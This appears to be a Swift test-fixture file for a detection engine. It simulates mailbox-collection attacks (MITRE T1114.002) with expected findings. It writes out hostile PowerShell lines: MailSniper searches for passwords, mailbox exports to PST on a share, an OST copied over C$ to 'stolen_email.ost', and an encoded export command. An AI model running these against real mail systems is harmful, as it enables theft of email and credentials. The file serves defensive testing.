/// The four test behaviours of T1114.002, and variants of them.
enum Attacks {
    static let all = [
        mailSniper, mailSniper.raw, mailSniperShouted, mailboxExport, mailboxExport.raw, exportFromOpenShell,
        managedAPI,
        managedAPI.raw, connectionFirst, lastMoment, offlineStoreCopy, offlineStoreCopy.raw, scriptedClient,
        encodedExport, encodedExport.raw, renamedShell, delegation, discoverySearch, graphSweep, graphCommand,
        appRole, appConsent, exchangeRoles, exchangeApp,
    ]

    private static let mail = Connection("192.0.2.40", port: 443, domain: "mail-0001.corp.example")
    private static let managedLibrary = Library(
        "C:\\Users\\{user}\\AppData\\Local\\Temp\\Microsoft.Exchange.WebServices.dll",
        company: "Microsoft Corporation", product: "Microsoft Exchange", signer: "Microsoft Corporation")
    private static let managedClient = "ExchangeServicesClient/15.00.0913.015"

    private static func shell(_ commandLine: String, _ program: Program = Programs.powerShell) -> Launch {
        Launch(program, commandLine, parent: Programs.explorer)
    }

    private static let seedAndCorrelation = [Script.Finding(.seed, 0), Script.Finding(.correlation, 0)]

    static let mailSniper = Script(
        name: "mailsniper-self-search",
        summary: "MailSniper searches the user's own mailbox over EWS (test behaviour 1)",
        kind: .attack,
        steps: { host in
            let body = ScriptBlock([
                "function Invoke-SelfSearch { [CmdletBinding()] Param([string]$Mailbox "
                    + "= '', [string]$ExchHostname = '', [string[]]$Terms = ('*password*','*creds*','"
                    + "*credentials*'), [string]$OutputCsv = '', [string]$ExchangeVersion = 'Exchange2010')",
                "$service = New-Object Microsoft.Exchange.WebServices.Data.ExchangeService($"
                    + "ExchangeVersion); $service.UseDefaultCredentials = $true; $service.Url "
                    + "= [uri]\"https://$ExchHostname/EWS/Exchange.asmx\"",
                "foreach ($term in $Terms) { $view = New-Object Microsoft.Exchange.WebServices."
                    + "Data.ItemView(100); $found = $service.FindItems('Inbox', $term, $view);"
                    + " $found.Items | Export-Csv $OutputCsv } }",
            ])
            return [
                .init(
                    at: 0,
                    .processStart(
                        shell(
                            "powershell.exe -nop -exec bypass -c \"Import-Module C:\\Users\\{user}\\AppData\\"
                                + "Local\\Temp\\MailSniper.ps1; Invoke-SelfSearch -Mailbox {user}@corp.example "
                                + "-ExchHostname mail-0001.corp.example -OutputCsv found.csv\""), instance: 71_001)),
                .init(at: 0.4, .scriptBlock(body, part: 0, instance: 71_001)),
                .init(at: 0.401, .scriptBlock(body, part: 1, instance: 71_001)),
                .init(at: 0.402, .scriptBlock(body, part: 2, instance: 71_001)),
                .init(at: 1.9, .nameQuery(Text("mail-0001.corp.example"), by: Programs.powerShell, instance: 71_001)),
                .init(at: 2.1, .connection(mail, by: Programs.powerShell, instance: 71_001)),
                .init(
                    at: 2.6, on: .exchangeServer,
                    .web(WebRequest("post", "/EWS/Exchange.asmx", userAgent: managedClient), client: host)),
            ]
        },
        findings: seedAndCorrelation + [
            .init(.shellThenConnection, 0, 5), .init(.scriptMailsniper, on: 1), .init(.scriptEwsClient, on: 1),
            .init(.scriptThenConnection, 5), .init(.ewsRequestUnusualClient, 6),
            .init(.workstationThenEwsRequest, 0, 6),
        ],
        testBehaviour: 1)

    static let mailSniperShouted = Script(
        name: "mailsniper-other-case",
        summary: "The same tool, with the program and the cmdlet in another case",
        kind: .attack,
        steps: { _ in
            [
                .init(
                    at: 0,
                    .processStart(
                        shell(
                            "POWERSHELL.EXE -NOP INVOKE-GLOBALMAILSEARCH -IMPERSONATIONACCOUNT {user}",
                            Programs.shoutedPowerShell), instance: 71_101)),
                .init(
                    at: 9, .defendConnection(mail, by: Programs.shoutedPowerShell, instance: 71_101, hasEnded: false)),
            ]
        },
        findings: seedAndCorrelation + [.init(.shellThenConnection, 0, 1)])

    static let mailboxExport = Script(
        name: "mailbox-export-to-pst",
        summary: "An administrator's shell exports a mailbox to a PST file (test behaviour 2)",
        kind: .attack,
        steps: { host in
            [
                .init(
                    at: 0,
                    .processStart(
                        shell(
                            "powershell.exe -Command \"Connect-ExchangeOnline; New-MailboxExportRequest "
                                + "-Mailbox ceo -FilePath \\\\files-0000\\export$\\ceo.pst\""), instance: 71_201)),
                .init(at: 3, .connection(mail, by: Programs.powerShell, instance: 71_201)),
                .init(
                    at: 5,
                    .exchangeAudit(
                        action: Text("New-MailboxExportRequest"), provider: "Exchange", object: Text("ceo"),
                        parameters: [
                            Parameter("Mailbox", "ceo"), Parameter("FilePath", "\\\\files-0000\\export$\\ceo.pst"),
                        ])),
                .init(
                    at: 5.2, on: .exchangeServer,
                    .exchangeCmdlet(
                        Text("New-MailboxExportRequest"),
                        arguments: Text("-Mailbox \"ceo\" -FilePath \"\\\\files-0000\\export$\\ceo.pst\""))),
                .init(
                    at: 6,
                    .scriptBlock(
                        ScriptBlock(["New-MailboxExportRequest -Mailbox ceo -FilePath \\\\files-0000\\export$\\ceo.pst"]
                        ), part: 0, instance: 71_201)),
                .init(
                    at: 21, on: .fileServer,
                    .fileCreation(FileName("D:\\Shares\\export$\\ceo.pst"), by: Programs.system4, instance: 1)),
                .init(
                    at: 21.2, on: .fileServer,
                    .shareAccess(share: Text("\\\\*\\export$"), target: Text("ceo.pst"), client: host)),
            ]
        },
        findings: seedAndCorrelation + [
            .init(.shellThenConnection, 0, 1), .init(.exchangeExportCmdlet, 2), .init(.exchangeExportCmdlet, 3),
            .init(.scriptMailboxExport, 4), .init(.mailStoreCreated, 5), .init(.mailStoreOverShare, 6),
        ],
        testBehaviour: 2)

    static let exportFromOpenShell = Script(
        name: "mailbox-export-typed",
        summary: "The export cmdlet is typed in a shell that was open already",
        kind: .attack,
        steps: { host in
            [
                .init(
                    at: 0,
                    .scriptBlock(
                        ScriptBlock(["New-MailboxExportRequest -Mailbox cfo -FilePath \\\\files-0000\\export$\\cfo.pst"]
                        ), part: 0, instance: 71_301)),
                .init(
                    at: 18, on: .fileServer,
                    .shareAccess(share: Text("\\\\*\\export$"), target: Text("cfo.pst"), client: host)),
            ]
        },
        findings: [.init(.scriptMailboxExport, 0), .init(.mailStoreOverShare, 1)])

    static let managedAPI = Script(
        name: "ews-managed-api",
        summary: "PowerShell loads the EWS Managed API and reads mail (test behaviour 3)",
        kind: .attack,
        steps: { host in
            [
                .init(
                    at: 0,
                    .processStart(
                        shell(
                            "\"C:\\Program Files\\PowerShell\\7\\pwsh.exe\" -NoProfile -Command "
                                + "\"Add-Type -Path $env:TEMP\\Microsoft.Exchange.WebServices.dll; . "
                                + ".\\read.ps1\"", Programs.powerShell7), instance: 71_401)),
                .init(at: 0.8, .imageLoad(managedLibrary, by: Programs.powerShell7, instance: 71_401)),
                .init(
                    at: 1.1,
                    .scriptBlock(
                        ScriptBlock([
                            "$ews = New-Object Microsoft.Exchange.WebServices.Data.ExchangeService;"
                                + " $ews.AutodiscoverUrl('{user}@corp.example'); $ews.FindItems('Inbox', " + "1000)"
                        ]), part: 0, instance: 71_401)),
                .init(at: 1.7, .connection(mail, by: Programs.powerShell7, instance: 71_401)),
                .init(
                    at: 2.2, on: .exchangeServer,
                    .web(WebRequest("post", "/EWS/Exchange.asmx", userAgent: managedClient), client: host)),
            ]
        },
        findings: seedAndCorrelation + [
            .init(.shellThenConnection, 0, 3), .init(.ewsLibraryLoad, 1), .init(.ewsLibraryThenConnection, 1, 3),
            .init(.scriptEwsClient, 2), .init(.scriptThenConnection, 2, 3), .init(.ewsRequestUnusualClient, 4),
            .init(.workstationThenEwsRequest, 1, 4),
        ],
        testBehaviour: 3)

    static let connectionFirst = Script(
        name: "connection-before-start",
        summary: "The connection to port 443 comes 40 s before the start",
        kind: .attack,
        isQuiet: true,
        steps: { _ in
            [
                .init(at: 0, .connection(mail, by: Programs.edge, instance: 71_501)),
                .init(
                    at: 40,
                    .processStart(
                        shell(
                            "powershell.exe Search-Mailbox -Identity {user} -SearchQuery 'subject:offer' "
                                + "-TargetMailbox evil -TargetFolder x"), instance: 71_502)),
            ]
        },
        findings: [.init(.seed, 1), .init(.correlation, 0, 1)])

    static let lastMoment = Script(
        name: "connection-at-sixty-seconds",
        summary: "The connection comes exactly 60 s after the start, the last moment of the window",
        kind: .attack,
        isQuiet: true,
        steps: { _ in
            [
                .init(
                    at: 0,
                    .processStart(
                        shell(
                            "powershell.exe New-ComplianceSearch -Name q -ExchangeLocation All "
                                + "-ContentMatchQuery merger"), instance: 71_601)),
                .init(at: 60, .defendConnection(mail, by: Programs.powerShell, instance: 71_601, hasEnded: false)),
            ]
        },
        findings: [.init(.seed, 0), .init(.correlation, 0, 1), .init(.shellThenConnection, 0, 1)])

    static let offlineStoreCopy = Script(
        name: "offline-store-copy",
        summary: "An OST file is copied over an administrative share (test behaviour 4)",
        kind: .attack,
        steps: { host in
            [
                .init(
                    at: 0,
                    .processStart(
                        shell(
                            "powershell.exe Copy-Item \\\\ws-0009\\C$\\Users\\ceo\\AppData\\Local\\Microsoft\\"
                                + "Outlook\\ceo@corp.example.ost C:\\Users\\Public\\stolen_email.ost"), instance: 71_701
                    )),
                .init(at: 0.6, on: .neighbour, .shareAccess(share: Text("\\\\*\\C$"), target: nil, client: host)),
                .init(
                    at: 0.7, on: .neighbour,
                    .shareAccess(
                        share: Text("\\\\*\\C$"),
                        target: Text("Users\\ceo\\AppData\\Local\\Microsoft\\Outlook\\ceo@corp.example.ost"),
                        client: host)),
                .init(
                    at: 0.9, on: .neighbour,
                    .objectAccess(
                        Text("C:\\Users\\ceo\\AppData\\Local\\Microsoft\\Outlook\\ceo@corp.example.ost"),
                        by: Programs.system4)),
                .init(
                    at: 4,
                    .fileCreation(
                        FileName("C:\\Users\\Public\\stolen_email.ost"), by: Programs.powerShell, instance: 71_701)),
                .init(
                    at: 4.1,
                    .scriptBlock(
                        ScriptBlock([
                            "Copy-Item \\\\ws-0009\\C$\\Users\\ceo\\AppData\\Local\\Microsoft\\Outlook\\"
                                + "ceo@corp.example.ost C:\\Users\\Public\\stolen_email.ost"
                        ]), part: 0, instance: 71_701)),
            ]
        },
        findings: [
            .init(.mailStoreCopyCommand, 0), .init(.mailStoreOverShare, 2), .init(.mailStoreOpened, 3),
            .init(.adminShareThenMailStore, 3), .init(.mailStoreCreated, 4), .init(.scriptMailStoreCopy, 5),
        ],
        testBehaviour: 4)

    static let scriptedClient = Script(
        name: "scripted-ews-client",
        summary: "A Python script reads mail over EWS",
        kind: .attack,
        steps: { host in
            [
                .init(
                    at: 0, on: .exchangeServer,
                    .web(WebRequest("post", "/EWS/Exchange.asmx", userAgent: "python-requests/2.32.3"), client: host))
            ]
        },
        findings: [.init(.seed, 0), .init(.ewsRequestUnusualClient, 0)])

    // MARK: Beyond the test behaviours

    static let encodedExport = Script(
        name: "encoded-export",
        summary: "The export stands in -EncodedCommand",
        kind: .attack,
        isQuiet: true,
        steps: { _ in
            [
                // New-MailboxExportRequest -Mailbox ceo -FilePath \\files\x$\ceo.pst
                .init(
                    at: 0,
                    .processStart(
                        shell(
                            "powershell.exe -NoP -enc TgBlAHcALQBNAGEAaQBsAGIAbwB4AEUAeABwAG8AcgB0AFIAZQBxAHUAZQBzAHQAIAAt"
                                + "AE0AYQBpAGwAYgBvAHgAIABjAGUAbwAgAC0ARgBpAGwAZQBQAGEAdABoACAAXABcAGYAaQBsAGUAcwBcAHgAJABc"
                                + "AGMAZQBvAC4AcABzAHQA"), instance: 71_801)),
                .init(at: 2, .connection(mail, by: Programs.powerShell, instance: 71_801)),
            ]
        },
        findings: [.init(.mailCmdletDecoded, 0), .init(.shellThenConnection, 0, 1)])

    static let renamedShell = Script(
        name: "renamed-shell",
        summary: "PowerShell runs under another name",
        kind: .attack,
        isQuiet: true,
        steps: { _ in
            [
                .init(
                    at: 0,
                    .processStart(
                        Launch(
                            Programs.renamedPowerShell,
                            "C:\\ProgramData\\updater.exe -c Invoke-SelfSearch -Mailbox {user}@corp.example",
                            parent: Programs.explorer), instance: 71_901)),
                .init(at: 2, .connection(mail, by: Programs.renamedPowerShell, instance: 71_901)),
            ]
        },
        findings: [.init(.mailCmdletHiddenShell, 0), .init(.shellThenConnection, 0, 1)])

    static let delegation = Script(
        name: "delegation-and-access",
        summary: "A mailbox is delegated, and read by the delegate a minute later",
        kind: .attack,
        steps: { _ in
            [
                .init(
                    at: 0,
                    .exchangeAudit(
                        action: Text("Add-MailboxPermission"), provider: "Exchange", object: Text("ceo"),
                        parameters: [
                            Parameter("Identity", "ceo"), Parameter("User", "{user}@corp.example"),
                            Parameter("AccessRights", "FullAccess"),
                        ])),
                .init(
                    at: 60,
                    .mailboxAccess(
                        owner: Text("ceo@corp.example"),
                        client: Text("Client=WebServices;ExchangeServicesClient/15.00.0913.015;"), logonType: 2)),
            ]
        },
        findings: [.init(.delegationThenAccess, 0, 1), .init(.mailboxReadByEwsProgram, 1)])

    static let discoverySearch = Script(
        name: "discovery-search-and-export",
        summary: "A content search over all mailboxes is made, and its result exported",
        kind: .attack,
        steps: { _ in
            [
                .init(
                    at: 0,
                    .exchangeAudit(
                        action: Text("SearchCreated"), provider: "SecurityComplianceCenter", object: Text("q"),
                        parameters: [Parameter("Name", "q"), Parameter("ExchangeLocation", "All")])),
                .init(
                    at: 90,
                    .exchangeAudit(
                        action: Text("SearchExported"), provider: "SecurityComplianceCenter", object: Text("q_Export"),
                        parameters: [Parameter("SearchName", "q")])),
            ]
        },
        findings: [.init(.ediscoverySearchThenExport, 0, 1)])

    static let graphSweep = Script(
        name: "graph-sweep",
        summary: "An app reads one mailbox after the other through Microsoft Graph",
        kind: .attack,
        steps: { _ in
            ["0c41", "5f20", "9e77", "d103"].enumerated().map { number, mailbox in
                .init(
                    at: Double(number) * 8,
                    .graphRequest(
                        path: Text("/v1.0/users/\(mailbox)8a1e-77b2-4c0f-8d5e-6f1b2a3c4d5e/messages"),
                        app: "7a1f6c02-9d1e-4b77-8e43-2a6d1f9b7c10"))
            }
        },
        findings: [.init(.graphAppReadsManyMailboxes, 0, 1, 2, 3)])

    static let graphCommand = Script(
        name: "graph-in-powershell",
        summary: "PowerShell reads a mailbox through Microsoft Graph",
        kind: .attack,
        isQuiet: true,
        steps: { _ in
            [
                .init(
                    at: 0,
                    .processStart(
                        shell(
                            "powershell.exe -c \"Connect-MgGraph; Invoke-MgGraphRequest -Uri "
                                + "https://graph.microsoft.com/v1.0/users/ceo@corp.example/messages\""),
                        instance: 72_001)),
                .init(
                    at: 1,
                    .scriptBlock(
                        ScriptBlock([
                            "Invoke-MgGraphRequest -Uri https://graph.microsoft.com/v1.0/users/ceo@corp.example/messages"
                        ]), part: 0, instance: 72_001)),
                .init(at: 2, .connection(mail, by: Programs.powerShell, instance: 72_001)),
            ]
        },
        findings: [
            .init(.graphMailCommand, 0), .init(.scriptGraphMail, 1), .init(.scriptThenConnection, 1, 2),
        ])
}
